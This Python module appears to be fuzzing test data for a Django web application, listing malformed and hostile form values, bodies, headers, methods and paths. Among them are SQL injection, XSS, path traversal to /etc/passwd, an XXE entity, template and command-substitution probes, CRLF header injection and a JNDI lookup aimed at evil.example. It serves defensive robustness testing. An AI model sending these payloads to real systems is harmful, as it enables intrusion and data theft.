"""What robots, mistaken programs and people who look for holes send."""

from __future__ import annotations

from typing import Any

# A page that says this back has evaluated a template.
EVALUATED = b"{7*7=49}"
ELSEWHERE = "evil.example"

# In the place of any one field, while the others stay as they should be.
VALUES: dict[str, Any] = {
    "nothing": "",
    "blanks": " \t\r\n ",
    "NUL": "a\x00b",
    "only NUL": "\x00",
    "lone surrogate": "\ud800",
    "surrogates the wrong way round": "\udc00\ud800",
    "half of UTF-8": b"\xc3",
    "bytes that are no UTF-8": b"\xff\xfe\x00\xd8",
    "control characters": "\x01\x07\x1b[31m\x7f\x85\u2028",
    "500 digits": "9" * 500,
    "minus 500 digits": "-" + "9" * 500,
    "more than 32 bits": "2147483648",
    "more than 64 bits": "9223372036854775808",
    "negative": "-1",
    "minus zero": "-0",
    "zero": "0",
    "fraction": "1.5",
    "not a number": "NaN",
    "infinity": "-Infinity",
    "exponent": "1e400",
    "hexadecimal": "0x10",
    "underscore": "1_000",
    "full-width digits": "１２３",
    "Arabic digits": "٠١٢٣",
    "superscript": "²",
    "right to left": "\u202eabc\u202c שלום",
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈",
    "stacked marks": "Z" + "\u0300" * 400,
    "formula": '=1+1+HYPERLINK("http://evil.example","x")',
    "HTML": '"><script>alert(1)</script><img src=x onerror=alert(1)>',
    "SQL": "' OR 1=1; DROP TABLE clients_client; --",
    "a backslash": "\\",
    "LIKE": "%_%",
    "path": "../../../../etc/passwd\x00.png",
    "template": "{7*{{7*7}}=49}{% load x %}",
    "attribute path": "{name.__class__.__init__.__globals__}{0}",
    "placeholder": "%(name)s %s %n ${HOME} $(id)",
    "CRLF": "a\r\nSet-Cookie: hacked=1\r\n\r\nBcc: x@evil.example",
    "another site": "//evil.example/",
    "script address": "javascript:alert(1)",
    "a date of no calendar": "2025-02-30",
    "the first day": "0001-01-01",
    "the last day": "9999-12-31",
    "beyond the last day": "10000-01-01",
    "an hour that is left out": "2026-03-29T03:30",  # Helsinki and Copenhagen spring forward
    "an hour that comes twice": "2025-10-26T03:30:00",
    "the last instant with a zone": "9999-12-31T23:59:59-23:59",
    "25 o'clock": "25:61",
    "JSON": '{"$gt": "", "__proto__": {}}',
    "a mail address": "x@evil.example,y@evil.example",
    "a long word": "x" * 5_000,
    "many lines": "\n" * 3_000,
}
# A choice, a box or a button is refused by its list: the shape of the text matters little.
FOR_CHOICES = (
    "nothing", "NUL", "lone surrogate", "500 digits", "more than 64 bits", "negative",
    "superscript", "full-width digits", "HTML", "SQL", "template", "a long word", "not a number",
    "CRLF",
)  # fmt: skip

FORM = "application/x-www-form-urlencoded"
_PART = b'--b\r\nContent-Disposition: form-data; name="%s"%s\r\n\r\n%s\r\n'


def multipart(pairs: list[tuple[str, Any]], *, as_file: str = "") -> bytes:
    """The same fields in parts; ``as_file`` comes as an uploaded file."""
    parts = []
    for name, value in pairs:
        more = b'; filename="a.txt"\r\nContent-Type: text/plain' if name == as_file else b""
        text = value if isinstance(value, bytes) else str(value).encode("utf-8", "surrogatepass")
        parts.append(_PART % (name.encode(), more, text))
    return b"".join(parts) + b"--b--\r\n"


# Instead of a form: (body, content type).
BODIES: dict[str, tuple[bytes, str]] = {
    "nothing": (b"", FORM),
    "nothing of no type": (b"", ""),
    "JSON": (b'{"code": ["a"], "amount": {"$ne": 1}}', "application/json"),
    "broken JSON": (b'{"code": ', "application/json"),
    "XML": (b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', "text/xml"),
    "separators": (b"&&&=&==&;%&%%%&%zz=%", FORM),
    "multipart without its boundary": (b"--b\r\n\r\n", "multipart/form-data"),
    "multipart cut short": (_PART % (b"code", b"", b"x"), "multipart/form-data; boundary=b"),
    "multipart of another boundary": (_PART % (b"a", b"", b"x"), "multipart/form-data; boundary=c"),
    "multipart without a name": (b"--b\r\n\r\nx\r\n--b--\r\n", "multipart/form-data; boundary=b"),
    "multipart in base64 that is none": (
        _PART.replace(b"\r\n\r\n", b"\r\nContent-Transfer-Encoding: base64\r\n\r\n")
        % (b"code", b'; filename="x"', b"!!!"),
        "multipart/form-data; boundary=b",
    ),
    "an odd boundary": (b"x", "multipart/form-data; boundary=" + "\u00e6" * 300),
    "an unknown charset": (b"code=x", FORM + "; charset=klingon"),
    "UTF-16": ("code=x".encode("utf-16"), FORM + "; charset=utf-16"),
    "text": (b"hello", "text/plain"),
}

# Headers of any request, as the server hands them over.
HEADERS: dict[str, dict[str, str]] = {
    "another host": {"HTTP_HOST": ELSEWHERE},
    "a host of two lines": {"HTTP_HOST": "testserver\r\nX: y"},
    "a host with a path": {"HTTP_HOST": "testserver/..@evil.example"},
    "a port that is none": {"HTTP_HOST": "testserver:99999999"},
    "no host": {"HTTP_HOST": ""},
    "forwarded host": {"HTTP_X_FORWARDED_HOST": ELSEWHERE, "HTTP_FORWARDED": "host=evil.example"},
    "forwarded for": {"HTTP_X_FORWARDED_FOR": "' OR 1=1, 127.0.0.1, \x00, 999.999.999.999"},
    "forwarded for a crowd": {"HTTP_X_FORWARDED_FOR": ", ".join(["::1"] * 2_000)},
    "no address": {"REMOTE_ADDR": ""},
    "an address that is none": {"REMOTE_ADDR": "unix:"},
    "languages": {"HTTP_ACCEPT_LANGUAGE": "da;q=NaN,fi;q=-1,../../etc,*;q=" + "9" * 400},
    "a long list of languages": {"HTTP_ACCEPT_LANGUAGE": "en-" * 5_000},
    "odd cookies": {"more_cookies": 'theme="\\x00; messages=[[; django_language=../..; a; =; ;;'},
    "a session that is none": {"HTTP_COOKIE": "sessionid=../../etc/passwd; csrftoken=x"},
    "a session of odd bytes": {"HTTP_COOKIE": "sessionid=\x00\xff" + "9" * 4_000},
    "length that is no number": {"CONTENT_LENGTH": "abc"},
    "negative length": {"CONTENT_LENGTH": "-1"},
    "length of 500 digits": {"CONTENT_LENGTH": "9" * 500},
    "odd content type": {"CONTENT_TYPE": "text/html; charset=klingon; ;;=,\xff"},
    "htmx": {
        "HTTP_HX_REQUEST": "true",
        "HTTP_HX_TARGET": "<script>",
        "HTTP_HX_CURRENT_URL": "//evil.example/%00",
        "HTTP_HX_CURRENT_URL_URI_AUTOENCODED": "true",
        "HTTP_HX_TRIGGERING_EVENT": "{",
        "HTTP_HX_PROMPT": "\xff",
    },
    "htmx going back": {
        "HTTP_HX_REQUEST": "true",
        "HTTP_HX_HISTORY_RESTORE_REQUEST": "true",
        "HTTP_HX_BOOSTED": "yes",
    },
    "referrer": {"HTTP_REFERER": "https://evil.example/\x00?next=//evil.example"},
    "referrer that is none": {"HTTP_REFERER": "http://[::1"},
    "origin": {"HTTP_ORIGIN": "https://evil.example"},
    "origin that is none": {"HTTP_ORIGIN": "http://[::1"},
    "method in a header": {"HTTP_X_HTTP_METHOD_OVERRIDE": "DELETE", "HTTP_X_METHOD": "PUT"},
    "another address in a header": {"HTTP_X_ORIGINAL_URL": "/admin/", "HTTP_X_REWRITE_URL": "/g/"},
    "range and conditions": {
        "HTTP_RANGE": "bytes=0-,9-1",
        "HTTP_IF_MODIFIED_SINCE": "Sun, 99 Foo 9999 99:99:99 GMT",
        "HTTP_IF_NONE_MATCH": "\xff",
        "HTTP_EXPECT": "200-maybe",
    },
    "accept": {"HTTP_ACCEPT": "*/" * 3_000, "HTTP_ACCEPT_ENCODING": "gzip;q=NaN, \x00"},
    "agent": {"HTTP_USER_AGENT": "${jndi:ldap://evil.example/a}\x1b[31m\r\n" + "x" * 5_000},
    "authorization": {"HTTP_AUTHORIZATION": "Basic " + "=" * 100},
}
METHODS = (
    "HEAD",
    "OPTIONS",
    "PUT",
    "PATCH",
    "DELETE",
    "TRACE",
    "PROPFIND",
    "get",
    "\x00",
    "P" * 300,
)

# In the place of a key in an address, as they stand in a request line.
KEYS = (
    "x", "9" * 25, "9" * 500, "-1", "0", "_00", "%00", "a%00b", "%ED%A0%80", "%FF", "%C2%B2",
    "..%2F..%2Fetc%2Fpasswd", "%2e%2e", "%E2%80%AE", "%F0%9F%91%A9", "%0D%0ASet-Cookie:%20a=1",
    "%27%20OR%201=1", "%3Cscript%3E", "NaN", "1e9", "1.0", "%25", "%", "a" * 3_000, "null", "*",
)  # fmt: skip
# Addresses that are nobody's.
PATHS = (
    "//evil.example/", "//evil.example/%2e%2e", "/admin//evil.example/", "/%2e%2e/admin/", "/%00",
    "/fi/../admin/", "/da//", "/xx/services/", "/fi/fi/", "/.env", "/.git/config", "/wp-login.php",
    "/static/../manage.py", "/static/%2e%2e/manage.py", "/static/%00", "/media/../../etc/passwd",
    "/admin/\\evil.example", "/account/login/%0D%0AX:y", "/" + "a/" * 2_000, "/%ED%A0%80/",
    "/admin/clients/client/1_00/", "/admin/clients/client/1/../../", "/book/%FF/times/",
    "/services/\u202e/", "/m/%00/", "/g/%00/", "/booking/%00/", "/admin/r/1/%00/", "/healthz/",
)  # fmt: skip
